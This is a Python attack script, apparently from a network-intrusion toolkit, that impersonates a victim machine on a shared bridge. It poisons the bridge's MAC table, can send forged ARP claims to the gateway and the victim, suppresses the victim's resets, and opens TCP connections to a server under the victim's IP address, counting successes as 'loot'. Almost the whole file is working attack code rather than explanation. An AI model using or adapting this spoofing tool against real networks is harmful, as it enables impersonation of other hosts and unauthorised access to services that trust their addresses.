"""A neighbour on the bridge opens connections with the victim's address.

With the victim's MAC the bridge's table is poisoned by every frame; with a MAC of the attacker's own the host has to be told
(--arp) that the victim is there. --talk has the victim say something in the middle, so that the bridge's table is right
again at the moment that a server might look at it. --port is a port that the victim has left in some state.
"""

import random
import time

from frames import ACK, BROADCAST, MADE_UP, Impostor, Loot, Wire, arguments, mac, request_for

told = arguments(
    __doc__,
    (["--mac"], dict(choices=["victim", "own"], default="victim")),
    (["--arp"], dict(action="store_true", help="tell host and victim where the other one is, wrongly")),
    (["--talk"], dict(action="store_true", help="make the victim talk during the handshake")),
    (["--port"], dict(type=int, default=0, help="always this source port")),
    (["--patience"], dict(type=float, default=0.6, help="seconds for each half of a try")),
)
wire = Wire()
victim_mac = mac(told.victim_mac)
said_mac = victim_mac if told.mac == "victim" else MADE_UP
loot = Loot(told.role)


def poison():
    if told.arp:
        wire.claim(told.victim, said_mac, wire.gateway_mac)
    else:
        # Nothing that anybody listens to: the bridge reads the sender.
        wire.arp(2, said_mac, told.victim, said_mac, told.victim, to=wire.gateway_mac)


def blind_the_victim():
    """It would reset what it has not opened; its resets go nowhere when it believes that the gateway is there."""
    if told.arp:
        wire.claim(wire.gateway_ip, wire.own_mac, victim_mac)


def make_it_talk():
    wire.arp(1, wire.own_mac, wire.own_ip, b"\0" * 6, told.victim, to=BROADCAST)
    wire.ping(wire.own_ip, told.victim, wire.own_mac, victim_mac)


for _ in range(told.tries):
    loot.tries += 1
    port = told.port or random.randrange(20000, 32000)
    impostor = Impostor(wire, told.victim, said_mac, port, told.server, told.server_port)
    wire.drain()
    blind_the_victim()
    if not impostor.connect(told.patience, poison):
        impostor.reset()
        continue
    loot.connections += 1
    if told.talk:
        make_it_talk()
        for _ in range(20):
            time.sleep(0.0003)
            impostor.send(ACK)
    loot.answer(impostor.ask(request_for(told.role), told.patience, poison))
    impostor.reset()

if told.arp:
    wire.tell_the_truth(told.victim, victim_mac)
loot.print()
